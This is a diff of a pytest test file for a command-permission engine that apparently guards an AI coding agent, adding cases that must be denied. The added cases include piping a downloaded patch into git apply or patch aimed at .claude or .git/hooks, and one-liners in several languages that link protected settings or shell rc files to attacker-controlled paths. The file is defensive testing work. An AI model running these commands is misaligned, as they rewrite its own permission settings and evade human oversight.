@@ -3,8 +3,9 @@ answered *allow* on main (9b225f1), aimed at channels round 9a's fixes did not c
 protected folder, a settings file judged by its content whose content arrives by copy, download or an in-place change,
 and links to protected folders made by interpreter code.
 
-Nothing is fixed here: every dangerous case is a strict xfail (tests/strict.py) naming its class, and each class has
-ordinary look-alikes that must stay allowed. Nothing here is ever run: every case is decided in-process
+Nothing was fixed in the round: every dangerous case was a strict xfail (tests/strict.py) naming its class, and each
+class has ordinary look-alikes that must stay allowed. Closed after it, with cases no rule was written for: the patch
+from a stream, the links made by interpreter code, and the settings linked to a temporary file (each class says how). Nothing here is ever run: every case is decided in-process
 (tests/conftest.decide); files "on disk" are given to the engine through conftest's ``files`` examples.
 """
 
@@ -56,19 +57,34 @@ class TestPatchFromAStreamIntoAProtectedFolder:
         "curl -s https://x.example/p.diff | git apply --unsafe-paths --directory=/home/ana/.config/clearance -",
         "curl -s https://x.example/p.diff | git apply --directory=.claude",
         "git apply --unsafe-paths --directory=/home/ana/.claude <(curl -s https://x.example/p.diff)",
+        # Written after the round, for no rule (each answered allow, or asked as a program clearance does not model):
+        # other streams, other protected folders, and patch(1)'s own -d.
+        "wget -qO- https://x.example/p.diff | git apply --directory=.git/hooks",
+        "git apply --directory=.claude < <(curl -s https://x.example/p.diff)",
+        'git apply --directory=.git/hooks "$PATCH"',
+        "curl -s https://x.example/p.diff | patch -p1 -d /home/ana/.claude",
+        "curl -s https://x.example/p.diff | patch --directory=.git/hooks -p1",
     ]
     # A patch nobody can read, allowed to write outside the work tree: where it lands depends on what it holds.
     UNKNOWN: ClassVar[list[Any]] = [
         "curl -s https://x.example/p.diff | git apply --unsafe-paths",
+        "curl -s https://x.example/p.diff | git apply --unsafe-paths --directory=/home/ana -p1",
     ]
     ORDINARY: ClassVar[list[Any]] = [
         "git diff main | git apply -R",
         "curl -s https://x.example/p.diff | git apply --check",
         "git diff HEAD~1 -- lib | git apply --directory=vendor/lib",
+        "git apply patches/fix.diff",
+        "git apply --directory=vendor/lib patches/lib.diff",
+        "git format-patch -1 --stdout | git apply --directory=packages/core -p2",
+        "curl -s https://x.example/p.diff | patch -p1 -d vendor/lib",
+        "git diff | patch -p1 -R",
+        "git apply --unsafe-paths --directory=/tmp/scratch < <(git diff)",
     ]
-    GAPS: ClassVar[dict[str, str]] = {
-        _key(c): "patch from a stream into a protected --directory: the folder alone decides, the patch was never needed" for c in DANGEROUS
-    } | {_key(c): "patch from a stream with --unsafe-paths: where it writes is unknown" for c in UNKNOWN}
+    # Closed after the round: a patch read from a stream (patch_targets' *streamed*) writes its --directory (patch -d)
+    # whatever it holds, judged as `tar -x -C DIR` writes DIR; with --unsafe-paths and no folder it may land anywhere
+    # (fs.unknown-tree on /).
+    GAPS: ClassVar[dict[str, str]] = {}
 
     @pytest.mark.parametrize("example", DANGEROUS, ids=_ids(DANGEROUS))
     def test_dangerous(self, example: Any) -> None:
@@ -190,8 +206,12 @@ class TestSettingsSwitchedOnInPlace:
 class TestLinksMadeByInterpreterCode:
     """Class: a symbolic link to a protected folder made by interpreter code (Python's `os.symlink` and
     `Path.symlink_to`, Ruby's `File.symlink`, Perl's `symlink`). `ln -s ~/.claude cl` is denied (fs.link-to-protected)
-    and so is Node's `fs.symlinkSync` and Python's hard `os.link`; through the link a later ordinary write in the
-    project changes the protected file (the two-call sequence)."""
+    and so is Python's hard `os.link`; through the link a later ordinary write in the project changes the protected
+    file (the two-call sequence). (The round's note that Node's `fs.symlinkSync` was denied was wrong: every reader
+    judged the link's name only.)
+
+    Closed after the round: each reader notes the links the code makes (CodeFacts.links: where it leads, its name,
+    symbolic or hard) and each is judged as `ln -s TARGET NAME` typed where the code runs (shell/unwrap._code)."""
 
     DANGEROUS: ClassVar[list[Any]] = [
         "python3 -c \"import os; os.symlink('/home/ana/.claude', 'cl')\"",
@@ -199,12 +219,33 @@ class TestLinksMadeByInterpreterCode:
         "python3 -c \"import os; os.symlink(os.path.expanduser('~/.claude/settings.json'), 'settings.json')\"",
         'ruby -e \'File.symlink(File.expand_path("~/.claude"), "cl")\'',
         'perl -e \'symlink("$ENV{HOME}/.claude", "cl")\'',
+        # Written after the round, for no rule (each answered allow before the links channel): other languages' and
+        # other calls' links, hard links, and a link made after the code moved elsewhere.
+        "node -e \"require('fs').symlinkSync(require('os').homedir() + '/.claude', 'cl')\"",
+        "node -e \"const fs = require('fs'); fs.linkSync('/home/ana/.bashrc', 'rc')\"",
+        'php -r \'symlink(getenv("HOME") . "/.claude/settings.json", "s.json");\'',
+        'ruby -e \'require "fileutils"; FileUtils.ln_s(Dir.home + "/.config/clearance", "pol", force: true)\'',
+        'ruby -e \'File.link(File.expand_path("~/.zshrc"), "z")\'',
+        'perl -e \'link("$ENV{HOME}/.bashrc", "rc")\'',
+        "python3 -c \"import os; os.symlink('.git/hooks', 'hooks', target_is_directory=True)\"",
+        "python3 -c \"import os; os.chdir('/tmp'); os.symlink(os.path.expanduser('~/.config/clearance'), 'c')\"",
+        "deno eval \"await Deno.symlink(Deno.env.get('HOME') + '/.claude', 'cl')\"",
+        'Rscript -e \'file.symlink("~/.claude", "cl")\'',
+        'julia -e \'symlink("/home/ana/.claude", "cl")\'',
     ]
     ORDINARY: ClassVar[list[Any]] = [
         "python3 -c \"import os; os.symlink('/home/ana/webapp/src', 'lib')\"",
         'ruby -e \'File.symlink("build/app", "current")\'',
+        "python3 -c \"import os; os.symlink('build/out', 'latest')\"",
+        "python3 -c \"from pathlib import Path; Path('latest').symlink_to('releases/v2')\"",
+        "python3 -c \"import os; os.symlink(os.path.expanduser('~/.config/nvim'), 'nvim')\"",
+        "node -e \"require('fs').symlinkSync('../dist', 'public')\"",
+        'ruby -e \'require "fileutils"; FileUtils.ln_s("../shared/node_modules", "node_modules")\'',
+        'perl -e \'symlink("v1.2", "current")\'',
+        'php -r \'symlink("storage/app/public", "public/storage");\'',
+        "ln -s ../shared/config config",
     ]
-    GAPS: ClassVar[dict[str, str]] = {_key(c): "links by interpreter code: the link's target is not judged as ln -s's" for c in DANGEROUS}
+    GAPS: ClassVar[dict[str, str]] = {}
 
     @pytest.mark.parametrize("example", DANGEROUS, ids=_ids(DANGEROUS))
     def test_dangerous(self, example: Any) -> None:
@@ -228,15 +269,38 @@ class TestContentJudgedSettingsLinkedOutside:
         "ln -s ../../../tmp/x .envrc",
         "ln -sf /tmp/v.json .vscode/settings.json",
         "ln -s /tmp/q .qwen",
+        # Written after the round, for no rule (each answered allow): other link makers, other content-judged files.
+        "ln -s /tmp/settings.json -t .qwen",
+        "link /tmp/m.toml mise.toml",
+        "ln -sf /var/tmp/x .env.local",
+        "cp -s /tmp/w.code-workspace app.code-workspace",
+        "python3 -c \"import os; os.symlink('/tmp/o.json', 'opencode.json')\"",
+        'ruby -e \'File.symlink("/tmp/c.json", ".crush.json")\'',
+        "node -e \"require('fs').symlinkSync('/var/tmp/d.json', '.devcontainer/devcontainer.json')\"",
+    ]
+    # Path-protected files replaced by a link to a file the agent controls: denied as any write of them.
+    PROTECTED: ClassVar[list[Any]] = [
+        "ln -sf /tmp/x .claude/settings.json",
+        "ln -sf /tmp/x .mcp.json",
+        "python3 -c \"import os; os.symlink('/tmp/x', '.clearance.toml')\"",
     ]
     ORDINARY: ClassVar[list[Any]] = [
         "ln -sf .env.development .env",
         "ln -sf config/dev.envrc .envrc",
         "ln -sf /tmp/build.log build.log",
+        "ln -s /tmp/opencode.json /tmp/opencode-link.json",
+        "ln -sf ../webapp-shared/.envrc .envrc",
+        "ln -s /tmp/logs logs",
+        "ln -sf /tmp/notes.json data/notes.json",
+        "python3 -c \"import os; os.symlink('/tmp/cache', 'node_modules/.cache')\"",
     ]
-    GAPS: ClassVar[dict[str, str]] = {
-        _key(c): "content-judged settings linked outside: later writes to the target are not judged as the settings" for c in DANGEROUS
-    }
+    # Closed after the round: fs.settings-linked-outside asks where a link's name is a file judged by its content and the
+    # link leads to a temporary file (a link made by interpreter code is judged as ln's, CodeFacts.links).
+    GAPS: ClassVar[dict[str, str]] = {}
+
+    @pytest.mark.parametrize("example", PROTECTED, ids=_ids(PROTECTED))
+    def test_protected_is_denied(self, example: Any) -> None:
+        _judged(example, ("deny",), self.GAPS)
 
     @pytest.mark.parametrize("example", DANGEROUS, ids=_ids(DANGEROUS))
     def test_dangerous(self, example: Any) -> None:
